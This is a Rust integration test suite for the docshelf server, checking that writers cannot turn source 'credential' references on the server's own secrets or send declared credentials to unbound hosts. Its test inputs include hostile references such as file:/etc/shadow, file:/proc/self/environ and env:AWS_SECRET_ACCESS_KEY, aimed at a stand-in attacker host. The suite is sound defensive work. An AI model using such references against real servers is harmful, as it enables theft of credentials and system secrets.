//! A writer's `credential` turned on the server's own secrets, and a
//! declared credential sent where it is not bound.
//!
//! The hostile run sent `"credential": "env:DOCSHELF_TOKEN"` with a
//! `write:team-*` token to a Git server of its own, which received the
//! admin token; `file:/proc/self/environ` and `file:/etc/shadow` went the
//! same way, and the errors told which files and variables exist. Here a
//! recording host stands for the attacker's, a canary variable and file
//! for the server's secrets, and a real Git server (`git http-backend`)
//! for a private repository the operator declared a credential for.

use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use axum::extract::{Request, State};
use axum::http::{header, StatusCode as AxumStatus};
use axum::response::{IntoResponse, Response};
use reqwest::{Client, StatusCode};
use serde_json::{json, Value};

use docshelf_server::config::{EngineConfig, SourceConfig};
use docshelf_server::engine::Engine;
use docshelf_server::http::{Access, RouterConfig};
use docshelf_server::source::credential::Declared;
use docshelf_server::store::sources::StoredSource;

use crate::common::mcp::Mcp;
use crate::common::{self, finished_job, serve_app};
use crate::git_server::{GitServer, Repo};

const ADMIN: &str = "admin-token-hostile-credentials";
/// What the server's environment and a file of its hold: never to leave.
const CANARY: &str = "canary-secret-5e1f9a";
const CANARY_VARIABLE: &str = "DOCSHELF_HOSTILE_CANARY";
/// The private repository's own credential.
const REPO_SECRET: &str = "alice:repo-pw-77c1";

/// Every `Authorization` header a host was sent.
type Seen = Arc<Mutex<Vec<String>>>;

/// The attacker's host: records every `Authorization` header and answers
/// 401 asking for Basic credentials, as a private Git server or site does.
async fn recorder(seen: Seen) -> String {
    async fn record(State(seen): State<Seen>, request: Request) -> Response {
        if let Some(auth) = request.headers().get(header::AUTHORIZATION) {
            let auth = auth.to_str().unwrap_or_default().to_owned();
            seen.lock().expect("lock").push(auth);
        }
        (
            AxumStatus::UNAUTHORIZED,
            [(header::WWW_AUTHENTICATE, "Basic realm=\"git\"")],
            "sign in",
        )
            .into_response()
    }
    let app = axum::Router::new().fallback(record).with_state(seen);
    serve_app(app, docshelf_server::http::serve::HEADER_TIMEOUT).await
}

/// docshelf with an admin token, loopback allowed for sources, and
/// `declared` credentials (and `rewrites`): the engine and base URL.
async fn docshelf(
    dir: &std::path::Path,
    declared: &[String],
    rewrites: Vec<(String, String)>,
) -> (Arc<Engine>, String) {
    let config = EngineConfig {
        sources: SourceConfig {
            allow_addresses: vec![IpAddr::from([127, 0, 0, 1])],
            crawl_rate: 1000.0,
            credentials: declared
                .iter()
                .map(|d| Declared::parse(d).expect("a declaration"))
                .collect(),
            rewrite_urls: rewrites,
            ..SourceConfig::default()
        },
        ..common::engine_config(dir)
    };
    let engine = Arc::new(Engine::open(&config).await.expect("engine"));
    engine.warm().await;
    let router = RouterConfig {
        access: Access {
            token: Some(ADMIN.into()),
            ..Access::default()
        },
        ..common::router_config(dir, 1024 * 1024)
    };
    let app = docshelf_server::http::router(engine.clone(), &router);
    let base = serve_app(app, docshelf_server::http::serve::HEADER_TIMEOUT).await;
    (engine, base)
}

async fn call(
    base: &str,
    token: &str,
    method: reqwest::Method,
    path: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let mut request = Client::new()
        .request(method, format!("{base}{path}"))
        .bearer_auth(token);
    if let Some(body) = body {
        request = request.json(&body);
    }
    let res = request.send().await.expect("request");
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

async fn add(base: &str, token: &str, request: Value) -> (StatusCode, Value) {
    call(
        base,
        token,
        reqwest::Method::POST,
        "/api/sources",
        Some(request),
    )
    .await
}

/// Makes a token as the admin; returns its secret.
async fn make_token(base: &str, name: &str, grants: Value) -> String {
    let (status, made) = call(
        base,
        ADMIN,
        reqwest::Method::POST,
        "/api/tokens",
        Some(json!({ "name": name, "grants": grants })),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    made["token"].as_str().expect("the secret").to_owned()
}

/// The private repository, served by a real Git server that asks for
/// [`REPO_SECRET`].
fn private_repository() -> GitServer {
    let repo = Repo::new();
    repo.commit(
        &[(
            "docs/index.md",
            "# Widgets\n\nRotate the widget keys every quarter.\n",
        )],
        Some("v1.0.0"),
    );
    GitServer::start(
        |root| repo.publish(root, "private"),
        &[format!("--private=private.git={REPO_SECRET}")],
    )
}

/// Calls an MCP tool over HTTP as `token`, in a session of its own, and
/// returns the call's answer.
async fn mcp_tool(base: &str, token: &str, tool: &str, arguments: Value) -> Value {
    let mut mcp = Mcp::open(base, token).await;
    mcp.request("tools/call", json!({"name": tool, "arguments": arguments}))
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_writer_cannot_send_the_servers_variables_or_files_anywhere() {
    std::env::set_var(CANARY_VARIABLE, CANARY);
    let dir = tempfile::tempdir().expect("dir");
    let canary_file = dir.path().join("canary");
    std::fs::write(&canary_file, CANARY).expect("canary");
    let seen: Seen = Arc::default();
    let attacker = recorder(seen.clone()).await;
    let (_engine, base) = docshelf(&dir.path().join("store"), &[], Vec::new()).await;
    let writer = make_token(
        &base,
        "team-writer",
        json!([{"role": "write", "libraries": "team-*"}]),
    )
    .await;

    let references = [
        format!("env:{CANARY_VARIABLE}"),
        format!("file:{}", canary_file.display()),
        "env:DOCSHELF_TOKEN".to_owned(),
        "env:AWS_SECRET_ACCESS_KEY".to_owned(),
        "file:/proc/self/environ".to_owned(),
        "file:/etc/shadow".to_owned(),
        "file:/".to_owned(),
        "file:/surely/no/such/file".to_owned(),
        "env:SURELY_NO_SUCH_VARIABLE_9F".to_owned(),
    ];
    let mut messages = Vec::new();
    for url in [format!("{attacker}/good.git"), format!("{attacker}/docs/")] {
        for reference in &references {
            let request = json!({"url": url, "library": "team-x", "version": "1.0",
                                 "ref": null, "credential": reference});
            let (status, refused) = add(&base, &writer, request).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{reference}: {refused}");
            assert_eq!(refused["code"], "source_credential", "{refused}");
            messages.push(refused["error"].as_str().unwrap_or_default().to_owned());
        }
    }
    // One answer whatever the reference names: nothing tells which files
    // or variables the server has.
    assert!(messages.iter().all(|m| m == &messages[0]), "{messages:#?}");
    for leak in [
        "not set",
        "directory",
        "not found",
        "entity",
        "permission",
        CANARY,
    ] {
        assert!(!messages[0].contains(leak), "{leak}: {}", messages[0]);
    }

    // MCP's add_docs takes the same path.
    let answer = mcp_tool(
        &base,
        &writer,
        "add_docs",
        json!({"url": format!("{attacker}/good.git"), "library": "team-x",
               "credential": format!("env:{CANARY_VARIABLE}")}),
    )
    .await;
    assert!(answer.to_string().contains("source_credential"), "{answer}");

    // The attacker's host was sent no credential at all.
    let received = seen.lock().expect("lock").clone();
    assert!(received.is_empty(), "sent to the attacker: {received:?}");
    // And nothing was stored that names the server's files.
    let (_, listed) = call(&base, ADMIN, reqwest::Method::GET, "/api/sources", None).await;
    assert!(!listed.to_string().contains("/proc/self"), "{listed}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_declared_credential_goes_to_its_own_host_for_its_own_libraries_alone() {
    let git = private_repository();
    let git_host = git.base.trim_start_matches("http://").to_owned();
    let seen: Seen = Arc::default();
    let attacker = recorder(seen.clone()).await;
    let dir = tempfile::tempdir().expect("dir");
    let secret_file = dir.path().join("repo-token");
    std::fs::write(&secret_file, format!("{REPO_SECRET}\n")).expect("secret");
    let declared = [format!(
        "widgets-ci=file:{}@{git_host};libraries=team-*",
        secret_file.display()
    )];
    let (_engine, base) = docshelf(&dir.path().join("store"), &declared, Vec::new()).await;
    let writer = make_token(
        &base,
        "team-writer",
        json!([{"role": "write", "libraries": "team-*"}]),
    )
    .await;
    let repository = format!("{}/private.git", git.base);

    // Named, for its host and a library it is for: read.
    let (status, accepted) = add(
        &base,
        &writer,
        json!({"url": repository, "library": "team-widgets", "credential": "widgets-ci"}),
    )
    .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{accepted}");
    let job = finished_job(&base, &accepted).await;
    assert_eq!(job["state"], "done", "{job}");

    // Pointed at another host, or named for another library, or never
    // declared: one refusal, and the other host is sent nothing.
    let attempts = [
        (
            json!({"url": format!("{attacker}/good.git"), "library": "team-x", "credential": "widgets-ci"}),
            &writer,
        ),
        (
            json!({"url": format!("{attacker}/docs/"), "library": "team-x", "version": "1", "credential": "widgets-ci"}),
            &writer,
        ),
        (
            json!({"url": repository, "library": "other", "credential": "widgets-ci"}),
            &ADMIN.to_owned(),
        ),
        (
            json!({"url": repository, "library": "team-x", "credential": "no-such-name"}),
            &writer,
        ),
    ];
    let mut messages = Vec::new();
    for (request, token) in attempts {
        let (status, refused) = add(&base, token, request.clone()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{request}: {refused}");
        assert_eq!(refused["code"], "source_credential", "{refused}");
        let message = refused["error"].as_str().unwrap_or_default();
        messages.push(message.replace("\"no-such-name\"", "\"widgets-ci\""));
    }
    assert!(messages.iter().all(|m| m == &messages[0]), "{messages:#?}");
    assert!(seen.lock().expect("lock").is_empty());

    // Admins list names and places; nobody sees a secret or its file.
    let (status, listed) = call(&base, ADMIN, reqwest::Method::GET, "/api/credentials", None).await;
    assert_eq!(status, StatusCode::OK, "{listed}");
    assert_eq!(
        listed,
        json!({"credentials": [{"name": "widgets-ci", "sent_to": [git_host], "libraries": ["team-*"]}]})
    );
    let (status, refused) = call(
        &base,
        &writer,
        reqwest::Method::GET,
        "/api/credentials",
        None,
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{refused}");
    let listed_by_mcp = mcp_tool(&base, ADMIN, "list_credentials", json!({})).await;
    assert!(
        listed_by_mcp.to_string().contains("widgets-ci"),
        "{listed_by_mcp}"
    );
    let (_, sources) = call(&base, ADMIN, reqwest::Method::GET, "/api/sources", None).await;
    let shown = format!("{listed}{listed_by_mcp}{sources}{job}");
    for hidden in ["repo-pw", "repo-token", "file:"] {
        assert!(!shown.contains(hidden), "{hidden} in {shown}");
    }
    assert!(
        sources
            .to_string()
            .contains("\"credential\":\"widgets-ci\""),
        "{sources}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mirror_receives_a_credential_only_when_bound_to_it_too() {
    let git = private_repository();
    let git_host = git.base.trim_start_matches("http://").to_owned();
    let seen: Seen = Arc::default();
    let unbound_mirror = recorder(seen.clone()).await;
    let dir = tempfile::tempdir().expect("dir");
    let secret_file = dir.path().join("repo-token");
    std::fs::write(&secret_file, REPO_SECRET).expect("secret");
    let secret = secret_file.display();

    // Bound to the source's host alone: the mirror it is fetched from is
    // refused it.
    let (_engine, base) = docshelf(
        &dir.path().join("one"),
        &[format!("ci=file:{secret}@git.example.test")],
        vec![(
            "http://git.example.test/".into(),
            format!("{unbound_mirror}/"),
        )],
    )
    .await;
    let (status, refused) = add(
        &base,
        ADMIN,
        json!({"url": "http://git.example.test/private.git", "library": "widgets", "credential": "ci"}),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert_eq!(refused["code"], "source_credential", "{refused}");
    assert!(seen.lock().expect("lock").is_empty());

    // Bound to the mirror too: read through it, under the source's name.
    let (_engine, base) = docshelf(
        &dir.path().join("two"),
        &[format!("ci=file:{secret}@git.example.test,{git_host}")],
        vec![("http://git.example.test/".into(), format!("{}/", git.base))],
    )
    .await;
    let (status, accepted) = add(
        &base,
        ADMIN,
        json!({"url": "http://git.example.test/private.git", "library": "widgets", "credential": "ci"}),
    )
    .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{accepted}");
    assert_eq!(finished_job(&base, &accepted).await["state"], "done");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_source_stored_with_a_reference_waits_until_the_operator_names_it() {
    let git = private_repository();
    let git_host = git.base.trim_start_matches("http://").to_owned();
    let dir = tempfile::tempdir().expect("dir");
    let secret_file = dir.path().join("repo-token");
    std::fs::write(&secret_file, REPO_SECRET).expect("secret");
    let declared_reference = format!("file:{}", secret_file.display());
    let (engine, base) = docshelf(
        &dir.path().join("store"),
        &[format!("legacy={declared_reference}@{git_host}")],
        Vec::new(),
    )
    .await;
    let repository = format!("{}/private.git", git.base);

    // Two sources as an older docshelf stored them: one naming the
    // reference the operator has since declared, one naming another file.
    let plant = |library: &str, credential: &str| {
        let request = json!({"url": repository, "library": library, "version": "main",
                             "credential": credential});
        StoredSource {
            id: ingest_core::ids::source_id(library, "main"),
            library: library.to_owned(),
            version: "main".to_owned(),
            request: request.to_string(),
            state: "{}".to_owned(),
        }
    };
    let mapped = plant("mapped", &declared_reference);
    let unmapped = plant("unmapped", "file:/etc/shadow");
    for source in [&mapped, &unmapped] {
        engine.store().save_source(source).await.expect("planted");
    }

    let refresh = |id: &str| {
        let path = format!("/api/sources/{id}/refresh");
        let base = base.clone();
        async move { call(&base, ADMIN, reqwest::Method::POST, &path, None).await }
    };
    let (status, refused) = refresh(&unmapped.id).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert_eq!(refused["code"], "source_credential", "{refused}");
    let message = refused["error"].as_str().unwrap_or_default();
    assert!(message.contains("--credential NAME="), "{message}");
    assert!(!message.contains("shadow"), "{message}");

    let (status, accepted) = refresh(&mapped.id).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{accepted}");
    assert_eq!(finished_job(&base, &accepted).await["state"], "done");
    let (_, source) = call(
        &base,
        ADMIN,
        reqwest::Method::GET,
        &format!("/api/sources/{}", mapped.id),
        None,
    )
    .await;
    assert_eq!(source["request"]["credential"], "legacy", "{source}");
}
